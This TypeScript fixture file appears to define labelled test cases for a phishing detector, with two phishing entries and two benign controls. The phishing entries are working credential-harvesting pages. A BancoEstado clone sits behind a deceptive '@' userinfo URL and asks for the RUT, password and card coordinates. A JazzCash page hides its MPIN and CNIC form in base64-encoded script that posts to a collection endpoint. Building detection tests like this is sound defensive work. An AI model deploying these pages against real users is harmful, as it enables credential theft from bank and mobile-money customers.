import type { Entry } from '../entry.js';
import { bot, doc, fileRoute, gtag, htmlRoute, jsonRoute, jsRoute, pe, redirectRoute, top } from '../parts/zn-kit.js';

export const entries: Entry[] = [
  {
    id: 'zn-phish-bancoestado-userinfo-cl',
    label: 'phishing',
    kind: 'bank-login',
    submittedUrl: 'https://www.bancoestado.cl@bestado-clave-segura.com/personas/',
    url: 'https://bestado-clave-segura.com/personas/',
    body: doc({
      lang: 'es-CL',
      title: 'BancoEstado - Banca en Línea Personas',
      c: '#f18a00',
      css: `.wrap{max-width:420px;margin:30px auto}header.top{background:#fff;color:#f18a00;border-bottom:3px solid #f18a00}header.top nav a{color:#333}`,
      body: `${top('BancoEstado', ['Personas', 'Empresas', 'Microempresas'])}
<main><div class="wrap card"><h2>Banca en Línea</h2><p class="warn">Por seguridad, su CuentaRUT ha sido bloqueada preventivamente. Ingrese para desbloquear.</p>
<form method="post" action="/personas/valida"><label>RUT</label><input name="rut" placeholder="12.345.678-9"><label>Clave Internet</label><input name="clave" type="password">
<label>Coordenadas BancoEstado (A1, C4, F5)</label><div class="grid"><input name="c1" maxlength="2"><input name="c2" maxlength="2"><input name="c3" maxlength="2"></div>
<p><button class="btn" style="width:100%">Ingresar</button></p></form></div></main>
${bot(['BancoEstado © 2025 · Infórmese sobre la garantía estatal de los depósitos en su banco o en www.cmfchile.cl'])}`,
    }),
    routes: { 'bestado-clave-segura.com/personas/valida': htmlRoute('<!doctype html><meta charset="utf-8"><title>BancoEstado</title><p>Desbloqueo en proceso. Un ejecutivo lo llamará para confirmar la clave BEpass.</p>') },
  },
  {
    id: 'zn-phish-jazzcash-docwrite-encoded-ur',
    label: 'phishing',
    kind: 'mobile-money',
    url: 'https://jazzcash-mpin-verify.com/pk/',
    body: `<!doctype html><html lang="ur" dir="rtl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>JazzCash</title>
<style>body{font-family:Tahoma,sans-serif;background:#fff7e6;margin:0}.w{max-width:400px;margin:30px auto;background:#fff;padding:20px;border-radius:10px;box-shadow:0 1px 4px #0002}input{width:100%;padding:10px;margin:6px 0;border:1px solid #ccc;border-radius:6px}button{width:100%;padding:12px;background:#f7a600;border:0;border-radius:6px;color:#fff;font-size:16px}</style></head>
<body><div id="r"></div><script src="/pk/l.js"></script></body></html>`,
    routes: {
      'jazzcash-mpin-verify.com/pk/l.js': jsRoute(`(function(){var d=decodeURIComponent(escape(atob('${Buffer.from('<div class="w"><h2 style="color:#c8102e">JazzCash</h2><p>آپ کا JazzCash اکاؤنٹ بائیومیٹرک تصدیق نہ ہونے کی وجہ سے معطل کر دیا گیا ہے۔ اپنا MPIN درج کر کے بحال کریں۔</p><form id="q"><input name="m" dir="ltr" placeholder="03XX XXXXXXX"><input name="cnic" dir="ltr" placeholder="CNIC"><input name="mpin" dir="ltr" type="password" maxlength="4" placeholder="MPIN"><button>تصدیق</button></form></div>', 'utf8').toString('base64')}')));
document.getElementById('r').innerHTML=d;document.getElementById('q').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/pk/k.php');x.send(new FormData(this));this.innerHTML='<p>شکریہ۔ تصدیقی کال کا انتظار کریں۔</p>'}})();`),
      'jazzcash-mpin-verify.com/pk/k.php': jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'zn-clean-safaricom-sms-shortlink-offer-en',
    label: 'clean',
    kind: 'benign-redirect',
    url: 'https://sfc.li/zn7Qk',
    routes: {
      'sfc.li/zn7Qk': redirectRoute(301, 'https://www.safaricom.co.ke/personal/offers/zn-bonga-points-redeem?utm_source=sms&utm_campaign=bonga'),
      'www.safaricom.co.ke/personal/offers/zn-bonga-points-redeem': htmlRoute(
        doc({
          lang: 'en-KE',
          title: 'Redeem Bonga Points | Safaricom',
          c: '#43b02a',
          head: gtag('G-SAF0MPESA9'),
          body: `${top('Safaricom', ['Personal', 'Business', 'M-PESA', 'Help'])}
<main><div class="card"><h1>Redeem your Bonga Points</h1><p>Use your Bonga Points for airtime, data, SMS bundles or M-PESA bill payments. Dial <b>*126#</b> or open the My Safaricom App.</p>
<table><tr><th>Reward</th><th>Points</th></tr><tr><td>1GB data (7 days)</td><td>250</td></tr><tr><td>KSh 50 airtime</td><td>250</td></tr><tr><td>Pay with Bonga at Lipa na M-PESA tills</td><td>from 10</td></tr></table>
<p class="muted">Safaricom will never ask you for your M-PESA PIN to redeem Bonga Points.</p></div></main>
${bot(['© 2025 Safaricom PLC'], ['Terms & Conditions', 'Privacy'])}`,
        }),
      ),
    },
  },
  {
    id: 'zn-clean-anydesk-download-en',
    label: 'clean',
    kind: 'software-download',
    url: 'https://anydesk.com/en/downloads/windows?zn=1',
    body: doc({
      lang: 'en',
      title: 'Download AnyDesk for Windows',
      c: '#ef443b',
      head: gtag('G-ANYDESK001'),
      body: `${top('AnyDesk', ['Solutions', 'Pricing', 'Downloads', 'Support'])}
<main><div class="card"><h1>AnyDesk for Windows</h1><p>Version 9.0.5 · 5.4 MB · Free for private use.</p><p><a class="btn" href="/en/downloads/windows/AnyDesk.exe">Download now</a></p>
<div class="warn"><b>Beware of scams:</b> AnyDesk will never contact you to request access to your device. Never give remote access to anyone claiming to be from your bank, electricity company or tax office.</div></div></main>
${bot(['© 2025 AnyDesk Software GmbH'], ['Imprint', 'Privacy', 'Terms'])}`,
    }),
    routes: { 'anydesk.com/en/downloads/windows/AnyDesk.exe': fileRoute(pe({ strings: ['AnyDesk', 'philandro Software GmbH', '9.0.5'] }), 'application/x-msdownload', 'AnyDesk.exe') },
  },
];
